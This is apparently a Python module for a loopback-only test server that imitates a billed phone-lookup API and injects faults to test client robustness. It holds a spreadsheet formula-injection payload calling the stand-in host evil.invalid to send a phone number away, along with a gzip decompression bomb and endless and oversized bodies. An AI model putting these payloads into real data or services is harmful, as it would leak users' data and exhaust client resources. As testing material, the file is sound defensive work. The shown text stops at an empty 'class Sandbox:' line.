"""The sandbox's HTTP server: accounting (balance, charges per number), rate limit, latency and
the fault knobs, on a real stdlib HTTP/1.1 server (keep-alive, daemon threads) bound to a
loopback address only.

The handler runs a fixed sequence of small checks (``_CHECKS``: path, auth, rate limit,
injected faults, JSON, validation, quota, balance, answer). A request is charged exactly when
the real service would bill it: an answer was computed for it, even one broken on its way
back. The order of checks, the error bodies, the charging rules and the stats:
``docs/internals/sandbox.md`` (the client must rely on nothing else).

Example:
    >>> import requests
    >>> from pd_hlr.sandbox import answer
    >>> r = requests.post(sb.endpoint, json={"phone": "+447400123456"},
    ...                   headers={"Authorization": f"Bearer {sb.token}"}, timeout=5)
    >>> r.json()["results"][0] == answer("+447400123456")
    True
"""

from __future__ import annotations

import collections
import contextlib
import dataclasses
import email.utils
import gzip
import ipaddress
import json
import logging
import math
import random
import socket
import ssl
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socketserver import TCPServer
from typing import Any, NamedTuple

from pd_hlr import _spec
from pd_hlr.sandbox.answers import build, parse_bool, route_is_detailed

__all__ = ["Faults", "RequestRecord", "Sandbox", "SandboxStats", "serve"]

log = logging.getLogger("pd_hlr.sandbox")

#: Sizes of the delivery faults.
HUGE_BYTES = 100_000_000
BOMB_BYTES = 1 << 30
TRICKLE_SECONDS = 1.0
#: The longest a TLS client may take over its handshake (seconds).
_HANDSHAKE_SECONDS = 10.0
DEEP_NESTING = 100_000
_BAD_UTF8_NAME = b"Telef\xf3nica"  # Latin-1, as a misconfigured upstream sends it
#: A hostile network name (issue 24, row 11): a click in a spreadsheet sends the row's number away.
FORMULA_NAME = '=HYPERLINK("http://evil.invalid/?"&A2,"Vodafone")'
_SURROGATE = "\ud83d"  # the first half of an emoji, cut upstream; json.dumps escapes it


def _p(help: str) -> Any:
    """A fault probability field (float in [0, 1]); ``help`` is what the CLI shows."""
    return field(default=0.0, metadata={"help": help, "probability": True})


def _param(default: Any, help: str) -> Any:
    return field(default=default, metadata={"help": help, "probability": False})


@dataclass(frozen=True)
class Faults:
    """The sandbox's fault knobs.

    Each probability field (a float in [0, 1]) is drawn per request from the sandbox's seeded
    RNG; the other fields are parameters. Every field's ``metadata["help"]`` says what it does
    and whether the real service would charge for it (the CLI shows it as ``--fault-<name>``).

    Not charged (no answer was computed): ``drop``, ``error_500``, ``error_503``, ``rate_429``,
    ``html_200``, ``quota``. Charged (the API answered, the answer is broken on its way back):
    ``temporary``, ``wrong_to``, ``errors_beside_results``, ``bom``, ``bad_utf8``,
    ``surrogate``, ``deep_nesting``, ``truncated``, ``missing_to``, ``nan_field``,
    ``echo_token``, ``slow``, ``trickle``, ``endless``, ``gzip_bomb``, ``huge``,
    ``formula_name``, ``hangup``, ``gzip``, ``chunked``. ``unreachable`` closes the listening
    socket: connections are refused (nothing reaches the API) until it is cleared with
    :meth:`Sandbox.configure`. ``hangup`` is a keep-alive fault: a normal answer, then the
    server closes the connection (silently, as an idle timeout does; with ``Connection: close``
    when ``hangup_announced``), so a client reusing that connection finds it gone. ``gzip``
    and ``chunked`` shape a normal answer on the wire, as a gateway may.

    Example:
        >>> Faults(error_503=0.1, retry_after=2.0).error_503
        0.1
        >>> [f.name for f in dataclasses.fields(Faults)][:3]
        ['error_500', 'error_503', 'rate_429']
    """

    # Before the API (never charged).
    error_500: float = _p("answer 500 with a requestError body (not charged)")
    error_503: float = _p("answer 503 with a requestError body (not charged)")
    rate_429: float = _p("answer 429 with a Retry-After of retry_after seconds (not charged)")
    drop: float = _p("close the connection without an answer (not charged)")
    html_200: float = _p("answer 200 with an HTML page, as a proxy or portal does (not charged)")
    quota: float = _p("answer 200 with a TRAFFIC_QUOTA_EXCEEDED result (not charged)")
    # The answer (charged).
    temporary: float = _p("a temporary HLR error instead of the number's answer (charged)")
    wrong_to: float = _p("the answer of another number: 'to' differs (charged)")
    errors_beside_results: float = _p('results plus an empty top-level "errors": {} (charged)')
    bom: float = _p("the body starts with a UTF-8 byte-order mark (charged)")
    bad_utf8: float = _p(r"a network name in Latin-1 bytes, Telef\xf3nica (charged)")
    surrogate: float = _p(r"a network name ending in a lone surrogate escape \ud83d (charged)")
    deep_nesting: float = _p(f"an extra field nested {DEEP_NESTING:,} levels deep (charged)")
    truncated: float = _p("the JSON body cut in half (charged)")
    missing_to: float = _p("a complete result without its 'to' number (charged)")
    nan_field: float = _p("a complete result holding a bare NaN, not JSON (charged)")
    echo_token: float = _p(
        "a gateway echoes the request's Authorization header into the result (charged)"
    )
    # Its delivery (charged).
    slow: float = _p("answer after slow_seconds (charged)")
    trickle: float = _p(f"send the body one byte every {TRICKLE_SECONDS:g} s (charged)")
    endless: float = _p("an endless chunked body (charged)")
    gzip_bomb: float = _p(f"a gzip body that inflates to {BOMB_BYTES >> 30} GiB (charged)")
    huge: float = _p(f"a {HUGE_BYTES // 1_000_000} MB body (charged)")
    # Parameters.
    retry_after: float = _param(1.0, "seconds in rate_429's Retry-After (86400: a day)")
    retry_after_http_date: bool = _param(False, "send rate_429's Retry-After as an HTTP-date")
    slow_seconds: float = _param(2.0, "delay of a slow answer, seconds")
    unreachable: bool = _param(False, "refuse connections: the listening socket is closed")
    reset_on_connect: bool = _param(
        False,
        "reset (RST) each connection when its first bytes arrive, before the TLS handshake or "
        "the request is read (nothing reaches the API)",
    )
    stall_handshake: bool = _param(
        False,
        "over TLS: accept connections but stall the TLS handshake for slow_seconds (nothing "
        "reaches the API)",
    )
    # The answer (charged), continued.
    formula_name: float = _p("a network name that is a spreadsheet formula, =HYPERLINK(...) "
                             "sending the row's number away on a click (charged)")
    # Keep-alive (charged: a normal answer).
    hangup: float = _p("a normal answer, then the connection is closed without notice, as a "
                       "server's idle timeout closes a keep-alive connection (charged)")
    hangup_announced: bool = _param(
        False, "hangup's answer says Connection: close before the connection is closed"
    )
    delivery_keep_alive: bool = _param(
        False,
        "the delivery faults' answers (trickle, endless, gzip_bomb, huge) do not say "
        "Connection: close, as a server that would serve the next request after them (the "
        "connection is closed after them all the same)",
    )
    # The answer's encoding on the wire, as a gateway may choose it (charged: a normal answer).
    gzip: float = _p("the answer gzip-compressed (Content-Encoding: gzip), whatever the "
                     "request's Accept-Encoding (charged)")
    chunked: float = _p("the answer streamed in chunks (Transfer-Encoding: chunked) (charged)")

    def __post_init__(self) -> None:
        for f in dataclasses.fields(self):
            value = getattr(self, f.name)
            if f.metadata["probability"] and not 0.0 <= value <= 1.0:
                raise ValueError(f"Faults.{f.name} must be a probability in [0, 1], got {value!r}")
        if self.retry_after < 0 or self.slow_seconds < 0:
            raise ValueError("Faults.retry_after and Faults.slow_seconds must be >= 0")

    @property
    def active(self) -> tuple[tuple[str, float], ...]:
        """(name, probability) of the knobs that can fire, in precedence order (the order the
        RNG is drawn in: a seed gives the same faults as it always did).

        Example:
            >>> Faults(huge=0.1, drop=0.5).active
            (('drop', 0.5), ('huge', 0.1))
        """
        return tuple((n, getattr(self, n)) for n in _ORDER if getattr(self, n) > 0)


#: Every probability knob in precedence order: what is drawn first wins.
_ORDER = (
    "drop",
    "error_500",
    "error_503",
    "rate_429",
    "html_200",
    "quota",
    "temporary",
    "wrong_to",
    "errors_beside_results",
    "bom",
    "bad_utf8",
    "surrogate",
    "deep_nesting",
    "truncated",
    "missing_to",
    "nan_field",
    "echo_token",
    "slow",
    "trickle",
    "endless",
    "gzip_bomb",
    "huge",
    "formula_name",
    "hangup",
    "gzip",
    "chunked",
)
#: Faults that replace the answer before the API is reached, in precedence order.
_EARLY = ("drop", "error_500", "error_503", "rate_429", "html_200")
#: Delivery faults, in precedence order (at most one applies; ``slow`` adds a delay to any).
_DELIVERY = ("endless", "gzip_bomb", "huge", "trickle")
#: Shapes of a normal delivery: they yield to a delivery fault (neither applied nor counted).
_WIRE = ("hangup", "gzip", "chunked")


class RequestRecord(NamedTuple):
    """One request as the sandbox saw it (status 0: dropped without an answer).

    ``fault`` is the first fault that shaped the answer; ``faults`` all of them (several answer
    faults can shape one answer: a byte-order mark before a lone surrogate, say).

    Example:
        >>> RequestRecord(0.0, "+447400123456", 200, None, True).charged
        True
    """

    t: float
    phone: str | None
    status: int
    fault: str | None
    charged: bool
    faults: tuple[str, ...] = ()


@dataclass(frozen=True, repr=False)
class SandboxStats:
    """A snapshot of the sandbox's counters; its repr is a one-line summary.

    ``received`` counts every request naming the phone, whatever its outcome (401s too);
    ``charged`` only the answers that were paid for (the charge ledger). ``connections`` and
    ``closed``: TCP connections accepted, and closed by the server (a keep-alive connection
    serves many requests; ``closed`` counts a connection once its socket is closed).

    Example:
        >>> s = SandboxStats(2, {"+447400123456": 2}, {"+447400123456": 2}, {200: 2}, {}, None)
        >>> s.total_charged
        2
        >>> s
        SandboxStats(requests=2, charged=2 for 1 numbers (1 twice or more), statuses={200: 2}, faults={}, balance=None)
    """  # noqa: E501

    requests: int
    charged: dict[str, int]
    received: dict[str, int]
    status_counts: dict[int, int]
    fault_counts: dict[str, int]
    balance: int | None
    connections: int = 0
    closed: int = 0

    @property
    def total_charged(self) -> int:
        """Lookups paid for, repeats included."""
        return sum(self.charged.values())

    def __repr__(self) -> str:
        again = sum(1 for n in self.charged.values() if n > 1)
        return (
            f"SandboxStats(requests={self.requests}, charged={self.total_charged} for "
            f"{len(self.charged)} numbers ({again} twice or more), "
            f"statuses={dict(sorted(self.status_counts.items()))}, "
            f"faults={dict(sorted(self.fault_counts.items()))}, balance={self.balance})"
        )

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:  # IPython / notebooks
        printer.text(repr(self))


_UNSET: Any = object()


class _State:
    """Everything mutable, guarded by one lock."""

    def __init__(
        self,
        token: str,
        latency: float,
        balance: int | None,
        rate_limit: float | None,
        faults: Faults | None,
        seed: int,
        price: Decimal,
        log_limit: int | None,
    ) -> None:
        self.lock = threading.Lock()
        #: Monotonic seconds (the rate window, the log); replace in tests.
        self.clock: Callable[[], float] = time.monotonic
        #: Wait ``seconds`` (latency, slow and trickled answers); True when the sandbox is
        #: closing. The Sandbox sets it to its closing event's ``wait``; replace in tests.
        self.pause: Callable[[float], bool] = threading.Event().wait
        self.auth = ("Bearer " + token) if token else None
        self.price = price
        self.rng = random.Random(seed)
        self.window: collections.deque[float] = collections.deque()
        self.log_limit = log_limit
        self.set_knobs(latency, balance, rate_limit, faults)
        self.reset()

    def set_knobs(
        self,
        latency: float = _UNSET,
        balance: int | None = _UNSET,
        rate_limit: float | None = _UNSET,
        faults: Faults | None = _UNSET,
    ) -> None:
        if latency is not _UNSET:
            if latency < 0:
                raise ValueError("latency must be >= 0")
            self.latency = float(latency)
        if balance is not _UNSET:
            if balance is not None and balance < 0:
                raise ValueError("balance must be >= 0 or None")
            self.balance = balance
        if rate_limit is not _UNSET:
            if rate_limit is not None and rate_limit <= 0:
                raise ValueError("rate_limit must be > 0 or None")
            self.rate_limit = rate_limit
        if faults is not _UNSET:
            self.faults = faults or Faults()
            self.active_faults = self.faults.active

    def reset(self) -> None:
        self.requests = 0
        self.connections = 0
        self.closed = 0
        self.charged: dict[str, int] = {}
        self.received: dict[str, int] = {}
        self.status_counts: dict[int, int] = {}
        self.fault_counts: dict[str, int] = {}
        self.log: collections.deque[RequestRecord] = collections.deque(maxlen=self.log_limit)

    def record(
        self,
        phone: str | None,
        status: int,
        fault: str | None,
        charged: bool,
        also: tuple[str, ...] = (),
    ) -> None:
        """Call with the lock held. ``also``: further faults that fired on this request."""
        faults = (fault, *also) if fault is not None else also
        self.status_counts[status] = self.status_counts.get(status, 0) + 1
        for name in faults:
            self.fault_counts[name] = self.fault_counts.get(name, 0) + 1
        if charged and phone is not None:
            self.charged[phone] = self.charged.get(phone, 0) + 1
        self.log.append(RequestRecord(self.clock(), phone, status, fault, charged, faults))


# ------------------------------------------------------------------------------------------------
# Bodies
# ------------------------------------------------------------------------------------------------

_REASONS = {
    200: "OK",
    400: "Bad Request",
    401: "Unauthorized",
    402: "Payment Required",
    404: "Not Found",
    405: "Method Not Allowed",
    411: "Length Required",
    413: "Content Too Large",
    422: "Unprocessable Content",
    429: "Too Many Requests",
    500: "Internal Server Error",
    503: "Service Unavailable",
}
_MAX_BODY = 1 << 20


def _dumps(obj: Any) -> bytes:
    return json.dumps(obj, separators=(",", ":")).encode()


def _request_error(message: str, code: int) -> bytes:
    return _dumps({"requestError": {"serviceException": {"messageId": message, "code": str(code)}}})


def _validation(message: str, field: str = "phone") -> bytes:
    return _dumps({"message": message, "errors": {field: [message]}})


_BODY_401 = _dumps({"message": _spec.UNAUTHENTICATED_MESSAGE})
_BODY_404 = _dumps({"message": "Not Found."})
_BODY_405 = _dumps({"message": "Method Not Allowed."})
_BODY_429 = _dumps({"message": "Too Many Attempts."})
_BODY_500 = _request_error("Internal server error.", 500)
_BODY_503 = _request_error("Service temporarily unavailable.", 503)
_BODY_HTML = (
    b"<!DOCTYPE html><html><head><title>Sign in to the network</title></head>"
    b"<body><h1>Please sign in</h1><p>This network requires you to log in.</p></body></html>"
)
_MARKER = "@@pd-hlr-sandbox-name@@"
_NAN_MARKER = "@@pd-hlr-sandbox-nan@@"


def _other_number(phone: str) -> str:
    """Another number of the same length: the last digit changed."""
    last = phone[-1]
    return phone[:-1] + (str((int(last) + 1) % 10) if last.isdigit() else "0")


def _rename_network(result: dict[str, Any], name: str) -> None:
    """Put ``name`` in the original network's name (summary or detailed shape)."""
    original = result.get("originalNetwork")
    if isinstance(original, dict):
        original["networkName"] = name
    else:
        result["originalNetwork"] = name


def _answer_body(
    args: tuple[str, bool, bool, bool, bool], fired: set[str], authorization: str = ""
) -> bytes:
    """The 200 body of a charged answer, shaped by the answer faults that fired
    (``authorization``: the request's header, which ``echo_token`` puts into the answer)."""
    force = "temporary" if "temporary" in fired else None
    phone = args[0]
    if "wrong_to" in fired:
        result = build(_other_number(phone), *args[1:], force=force)
    else:
        result = build(*args, force=force)
    if "surrogate" in fired:
        _rename_network(result, "Vodafone " + _SURROGATE)
    if "bad_utf8" in fired:
        _rename_network(result, _MARKER)
    if "missing_to" in fired:
        del result["to"]
    if "nan_field" in fired:
        result["ported"] = _NAN_MARKER
    if "echo_token" in fired:  # a debugging gateway: into an extra field and a network name
        result["gateway"] = {"request_headers": {"Authorization": authorization}}
        _rename_network(result, f"Vodafone [{authorization}]")
    if "formula_name" in fired:
        _rename_network(result, FORMULA_NAME)
    payload: dict[str, Any] = {"results": [result]}
    if "errors_beside_results" in fired:
        payload["errors"] = {}
    body = _dumps(payload)
    if "deep_nesting" in fired:
        nested = b"[" * DEEP_NESTING + b"]" * DEEP_NESTING
        body = body[:-3] + b',"trace":' + nested + b"}]}"  # inside the result object
    if "bad_utf8" in fired:
        body = body.replace(_MARKER.encode(), _BAD_UTF8_NAME)
    if "nan_field" in fired:
        body = body.replace(f'"{_NAN_MARKER}"'.encode(), b"NaN")
    if "bom" in fired:
        body = b"\xef\xbb\xbf" + body
    if "truncated" in fired:
        body = body[: len(body) // 2]
    return body


@cache
def _bomb_tail() -> bytes:
    """gzip members inflating to BOMB_BYTES spaces (JSON whitespace), about 1 MB on the wire."""
    member = gzip.compress(b" " * (16 << 20), compresslevel=9, mtime=0)
    return member * (BOMB_BYTES // (16 << 20))


# ------------------------------------------------------------------------------------------------
# HTTP
# ------------------------------------------------------------------------------------------------


@dataclass
class _Request:
    """One request on its way through the handler's checks."""

    is_post: bool
    data: Any  # the parsed JSON body; _UNSET when it is not JSON
    phone: Any  # data["phone"] as sent (any JSON type), None when absent
    key: str | None  # the phone when it is a string: what the stats count it under
    arrived: float  # st.clock() on arrival (the rate window counts arrivals)
    faults: Faults = field(default_factory=Faults)  # the knobs when the request was admitted
    fired: set[str] = field(default_factory=set)  # the faults drawn for it
    #: build()'s arguments (phone, detailed, roaming, detailed route, msisdn), set by
    #: _check_options once the body is valid.
    args: tuple[str, bool, bool, bool, bool] = ("", False, False, False, True)


#: The injected server errors: fault → (status, body).
_EARLY_ERRORS = {"error_500": (500, _BODY_500), "error_503": (503, _BODY_503)}


def _retry_after(faults: Faults) -> str:
    """The Retry-After value of an injected 429: seconds, or an HTTP-date."""
    if faults.retry_after_http_date:
        return email.utils.formatdate(math.ceil(time.time() + faults.retry_after), usegmt=True)
    return f"{faults.retry_after:g}"


def _answer_faults(fired: set[str]) -> tuple[tuple[str, ...], str | None]:
    """The faults that shape a charged answer, in precedence order, and its delivery form (at
    most one applies: the others are neither applied nor counted)."""
    applied = tuple(n for n in _ORDER if n in fired and n not in _EARLY and n != "quota")
    delivery = next((n for n in _DELIVERY if n in fired), None)
    if delivery is not None:
        applied = tuple(
            n for n in applied if (n not in _DELIVERY or n == delivery) and n not in _WIRE
        )
    return applied, delivery



class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "provero-sandbox"
    disable_nagle_algorithm = True
    server: _Server

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def setup(self) -> None:
        super().setup()
        self.server.track(self.connection)

    def finish(self) -> None:
        try:
            super().finish()
        finally:
            self.server.untrack(self.connection)

    def do_POST(self) -> None:
        self._handle(True)

    def do_GET(self) -> None:
        self._handle(False)

    do_PUT = do_DELETE = do_PATCH = do_GET

    def _head(self, code: int, extra: str = "", length: int | None = None) -> bytes:
        head = f"HTTP/1.1 {code} {_REASONS[code]}\r\nContent-Type: application/json\r\n"
        if length is not None:
            head += f"Content-Length: {length}\r\n"
        head += extra
        if self.close_connection:
            head += "Connection: close\r\n"
        return head.encode("latin-1") + b"\r\n"

    def _send(self, code: int, body: bytes, extra: str = "") -> None:
        self.wfile.write(self._head(code, extra, len(body)) + body)

    def _refuse_body(self, code: int, message: str) -> int:
        """Count and log a request whose body cannot be read, then answer it (stats first, so
        a client that has its answer also sees it counted)."""
        st: _State = self.server.state
        with st.lock:
            st.requests += 1
            st.record(None, code, None, False)
        self.close_connection = True
        self._send(code, _request_error(message, code))
        return code

    def _read_body(self) -> bytes | int:
        """The request body, or the status code of the error already counted and sent."""
        if "chunked" in (self.headers.get("Transfer-Encoding") or "").lower():
            return self._refuse_body(411, "Content-Length required.")
        try:
            n = int(self.headers.get("Content-Length") or 0)
        except ValueError:
            n = -1
        if n < 0 or n > _MAX_BODY:
            return self._refuse_body(413 if n > 0 else 400, "Bad Content-Length.")
        return self.rfile.read(n) if n else b""

    def _handle(self, is_post: bool) -> None:
        """Read the request, then run it through :attr:`_CHECKS` until one of them answers."""
        req = self._arrive(is_post)
        if req is None:
            return
        for check in self._CHECKS:
            if check(self, req):
                return

    def _arrive(self, is_post: bool) -> _Request | None:
        """Read and parse the body, count the request, wait out the latency (None: the body
        could not be read, and that error is already counted and sent)."""
        st: _State = self.server.state
        raw = self._read_body()
        if isinstance(raw, int):
            return None
        try:
            data: Any = json.loads(raw) if raw.strip() else {}
        except (ValueError, UnicodeDecodeError):
            data = _UNSET
        phone = data.get("phone") if isinstance(data, dict) else None
        key = phone if isinstance(phone, str) else None
        arrived = st.clock()  # the rate window counts arrivals, not latency-delayed stamps
        with st.lock:
            st.requests += 1
            if key is not None:
                st.received[key] = st.received.get(key, 0) + 1
            latency = st.latency
        if latency:
            st.pause(latency)
        return _Request(is_post, data, phone, key, arrived)

    # The checks, in the order of the module docstring. Each returns True when it answered.

    def _check_path(self, req: _Request) -> bool:
        if self.path.split("?", 1)[0] != _spec.ENDPOINT_PATH:
            return self._finish(404, _BODY_404, req.key)
        return False

    def _check_method(self, req: _Request) -> bool:
        if not req.is_post:
            return self._finish(405, _BODY_405, req.key, extra="Allow: POST\r\n")
        return False

    def _check_auth(self, req: _Request) -> bool:
        st: _State = self.server.state
        if st.auth is None or self.headers.get("Authorization") != st.auth:
            extra = 'WWW-Authenticate: Bearer realm="provero"\r\n'
            return self._finish(401, _BODY_401, req.key, extra=extra)
        return False

    def _check_rate(self, req: _Request) -> bool:
        """The rate limit; when the request is admitted, draw its faults (under the same lock,
        so the RNG is drawn in arrival order as before)."""
        st: _State = self.server.state
        wait = 0
        with st.lock:
            if st.rate_limit is not None:
                window = st.window
                while window and window[0] <= req.arrived - 1.0:
                    window.popleft()
                if len(window) >= st.rate_limit:
                    wait = max(1, math.ceil(window[0] + 1.0 - req.arrived))
                    st.record(req.key, 429, "rate_limit", False)
                else:
                    window.append(req.arrived)
            req.faults = st.faults
            if not wait:
                req.fired = {name for name, p in st.active_faults if st.rng.random() < p}
        if wait:
            self._send(429, _BODY_429, f"Retry-After: {wait}\r\n")
            return True
        return False

    def _check_early(self, req: _Request) -> bool:
        """Injected faults that answer before the API is reached (never charged)."""
        early = next((name for name in _EARLY if name in req.fired), None)
        if early is None:
            return False
        st: _State = self.server.state
        if early == "drop":
            with st.lock:
                st.record(req.key, 0, "drop", False)
            self.close_connection = True
            with contextlib.suppress(OSError):
                self.connection.shutdown(socket.SHUT_RDWR)
            return True
        if early == "html_200":
            with st.lock:
                st.record(req.key, 200, "html_200", False)
            head = self._head(200, length=len(_BODY_HTML))
            self.wfile.write(head.replace(b"application/json", b"text/html") + _BODY_HTML)
            return True
        if early == "rate_429":
            extra = f"Retry-After: {_retry_after(req.faults)}\r\n"
            return self._finish(429, _BODY_429, req.key, fault="rate_429", extra=extra)
        code, body = _EARLY_ERRORS[early]
        return self._finish(code, body, req.key, fault=early)

    def _check_json(self, req: _Request) -> bool:
        if req.data is _UNSET:
            return self._finish(400, _request_error("Malformed JSON body.", 400), req.key)
        if not isinstance(req.data, dict):
            body = _request_error("The request body must be a JSON object.", 400)
            return self._finish(400, body, req.key)
        return False

    def _check_phone(self, req: _Request) -> bool:
        phone = req.phone
        if phone is None or (isinstance(phone, str) and not phone.strip()):
            return self._finish(422, _validation(_spec.MSG_PHONE_REQUIRED), req.key)
        if not isinstance(phone, str):
            return self._finish(422, _validation("The phone field must be a string."), req.key)
        if len(phone) > _spec.PHONE_MAX_LEN:
            return self._finish(422, _validation(_spec.MSG_PHONE_TOO_LONG), req.key)
        if len(phone) < _spec.PHONE_MIN_LEN:
            return self._finish(422, _validation(_spec.MSG_PHONE_TOO_SHORT), req.key)
        return False

    def _check_options(self, req: _Request) -> bool:
        """Validate the boolean options and the route; on success set ``req.args``."""
        data = req.data
        opts: dict[str, bool] = {}
        for name, default in (("detailed", False), ("roaming", False), ("msisdn", True)):
            given = data.get(name)
            parsed = default if given is None else parse_bool(given)
            if parsed is None:
                msg = f"The {name} field must be true or false."
                return self._finish(422, _validation(msg, name), req.key)
            opts[name] = parsed
        route = data.get("route")
        if route is not None and not isinstance(route, str):
            msg = "The route field must be a string."
            return self._finish(422, _validation(msg, "route"), req.key)
        detailed, roaming, msisdn = opts["detailed"], opts["roaming"], opts["msisdn"]
        req.args = (req.phone, detailed, roaming, route_is_detailed(route), msisdn)
        return False

    def _check_quota(self, req: _Request) -> bool:
        if "quota" in req.fired:
            body = _dumps({"results": [build(*req.args, force="quota")]})
            return self._finish(200, body, req.key, fault="quota")
        return False

    def _answer(self, req: _Request) -> bool:
        """The balance (402), else the charged answer, shaped and delivered by its faults."""
        applied, delivery = _answer_faults(req.fired)
        refusal = self._charge(req.key, applied)
        if refusal is not None:
            self._send(402, _dumps(refusal))
            return True
        body = _answer_body(req.args, req.fired, self.headers.get("Authorization", ""))
        if "slow" in req.fired:
            self.server.state.pause(req.faults.slow_seconds)
        if delivery is None:
            hangup = "hangup" in req.fired
            if hangup and req.faults.hangup_announced:
                self.close_connection = True  # before the head: it says Connection: close
            self._send_answer(body, req.fired)
            if hangup:  # after the head: the answer promised to keep the connection open
                self.close_connection = True
        else:
            self._deliver(delivery, body, req.faults.delivery_keep_alive)
        return True

    _CHECKS: tuple[Callable[[_Handler, _Request], bool], ...] = (
        _check_path,
        _check_method,
        _check_auth,
        _check_rate,
        _check_early,
        _check_json,
        _check_phone,
        _check_options,
        _check_quota,
        _answer,
    )

    def _charge(self, key: str | None, applied: tuple[str, ...]) -> dict[str, str] | None:
        """Charge one lookup and record it; or, when the balance is spent, record the refusal
        and return the 402 body."""
        st: _State = self.server.state
        with st.lock:
            if st.balance is not None and st.balance <= 0:
                places = _spec.MONEY_PLACES
                st.record(key, 402, None, False)
                return {
                    "message": _spec.INSUFFICIENT_BALANCE_MESSAGE,
                    "service": _spec.INSUFFICIENT_BALANCE_SERVICE,
                    "required_amount": f"{st.price:.{places}f}",
                    "current_balance": f"{st.price * max(st.balance, 0):.{places}f}",
                }
            if st.balance is not None:
                st.balance -= 1
            first = applied[0] if applied else None
            st.record(key, 200, first, True, also=applied[1:])
            return None

    def _send_answer(self, body: bytes, fired: set[str]) -> None:
        """A 200 answer, gzip-compressed and/or in three chunks when those faults fired."""
        extra = ""
        if "gzip" in fired:
            body = gzip.compress(body, mtime=0)
            extra = "Content-Encoding: gzip\r\n"
        if "chunked" not in fired:
            self._send(200, body, extra)
            return
        step = -(-len(body) // 3)
        parts = [body[i : i + step] for i in range(0, len(body), step)]
        frames = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in parts)
        head = self._head(200, extra + "Transfer-Encoding: chunked\r\n")
        self.wfile.write(head + frames + b"0\r\n\r\n")

    def _deliver(self, how: str, body: bytes, keep_alive: bool = False) -> None:
        """Send a 200 body the hostile way ``how``; stop when the client gives up. The head
        says ``Connection: close`` unless ``keep_alive``; the connection is closed after it
        either way."""
        self.close_connection = not keep_alive
        try:
            self._deliver_body(how, body)
        finally:
            self.close_connection = True

    def _deliver_body(self, how: str, body: bytes) -> None:
        stopping = self.server.stopping
        with contextlib.suppress(OSError):
            if how == "trickle":
                self.wfile.write(self._head(200, length=len(body)))
                for i in range(len(body)):
                    if i and self.server.state.pause(TRICKLE_SECONDS):
                        return
                    self.wfile.write(body[i : i + 1])
            elif how == "endless":
                self.wfile.write(self._head(200, "Transfer-Encoding: chunked\r\n"))
                self.wfile.write(b"%x\r\n%s\r\n" % (len(body) - 1, body[:-1]))
                chunk = b" " * 65536
                frame = b"%x\r\n%s\r\n" % (len(chunk), chunk)
                while not stopping.is_set():
                    self.wfile.write(frame)
            elif how == "gzip_bomb":
                wire = gzip.compress(body[:-1], mtime=0) + _bomb_tail() + gzip.compress(b"}")
                head = self._head(200, "Content-Encoding: gzip\r\n", len(wire))
                self.wfile.write(head + wire)
            elif how == "huge":
                pad = HUGE_BYTES - len(body)  # spaces between the answer and its last "}"
                self.wfile.write(self._head(200, length=HUGE_BYTES) + body[:-1])
                chunk = b" " * (1 << 20)
                while pad > 0 and not stopping.is_set():
                    n = min(pad, len(chunk))
                    self.wfile.write(chunk[:n])
                    pad -= n
                self.wfile.write(b"}")

    def _finish(
        self,
        code: int,
        body: bytes,
        phone: str | None,
        fault: str | None = None,
        extra: str = "",
    ) -> bool:
        """Record an uncharged answer and send it; True (the request is answered)."""
        st: _State = self.server.state
        with st.lock:
            st.record(phone, code, fault, False)
        self._send(code, body, extra)
        return True


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 128

    def __init__(
        self,
        address: tuple[str, int],
        state: _State,
        stopping: threading.Event,
        ssl_context: ssl.SSLContext | None = None,
    ) -> None:
        self.state = state
        self.stopping = stopping
        self.ssl_context = ssl_context
        self._conns: set[socket.socket] = set()
        self._conns_lock = threading.Lock()
        super().__init__(address, _Handler)

    def server_bind(self) -> None:
        # HTTPServer.server_bind would call socket.getfqdn (a DNS lookup): skip it.
        TCPServer.server_bind(self)
        self.server_name, self.server_port = self.socket.getsockname()[:2]

    def process_request(self, request: Any, client_address: Any) -> None:
        with self.state.lock:
            self.state.connections += 1
        super().process_request(request, client_address)

    def finish_request(self, request: Any, client_address: Any) -> None:
        """Serve one connection; over TLS, the handshake is made here, in the connection's
        thread (a client refusing the certificate ends only its own connection)."""
        state = self.state
        if state.faults.reset_on_connect:
            _reset(request)
            return
        if self.ssl_context is None:
            super().finish_request(request, client_address)
            return
        if state.faults.stall_handshake and state.pause(state.faults.slow_seconds):
            return  # the sandbox is closing
        request.settimeout(_HANDSHAKE_SECONDS)  # a client that never speaks TLS ends here
        try:
            tls = self.ssl_context.wrap_socket(request, server_side=True)
        except (OSError, ValueError):  # the client refused the certificate, or spoke plain HTTP
            return
        tls.settimeout(None)
        try:
            super().finish_request(tls, client_address)
        finally:
            with contextlib.suppress(OSError):
                tls.shutdown(socket.SHUT_WR)
            tls.close()  # the plain socket was detached into it

    def shutdown_request(self, request: Any) -> None:
        super().shutdown_request(request)
        with self.state.lock:
            self.state.closed += 1

    def track(self, conn: socket.socket) -> None:
        with self._conns_lock:
            self._conns.add(conn)

    def untrack(self, conn: socket.socket) -> None:
        with self._conns_lock:
            self._conns.discard(conn)

    def close_connections(self) -> None:
        with self._conns_lock:
            conns = list(self._conns)
        for conn in conns:
            with contextlib.suppress(OSError):
                conn.shutdown(socket.SHUT_RDWR)

    def handle_error(self, request: Any, client_address: Any) -> None:
        import sys

        exc = sys.exc_info()[1]
        if isinstance(exc, OSError):  # client went away (e.g. gave up on a slow answer)
            return
        log.exception("sandbox: error while handling a request from %s", client_address)


def _reset(conn: socket.socket) -> None:
    """Wait for the client's first bytes (a ClientHello, a request), then reset the
    connection (RST, not FIN: SO_LINGER 0)."""
    with contextlib.suppress(OSError):
        conn.settimeout(_HANDSHAKE_SECONDS)
        conn.recv(1)
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    conn.close()


class _Server6(_Server):
    address_family = socket.AF_INET6


def _loopback(host: str) -> str:
    if host == "localhost":
        return "127.0.0.1"
    try:
        ip = ipaddress.ip_address(host)
    except ValueError:
        raise ValueError(f"sandbox binds to loopback addresses only, not {host!r}") from None
    if not ip.is_loopback:
        raise ValueError(f"sandbox binds to loopback addresses only, not {host!r}")
    return str(ip)


class Sandbox:
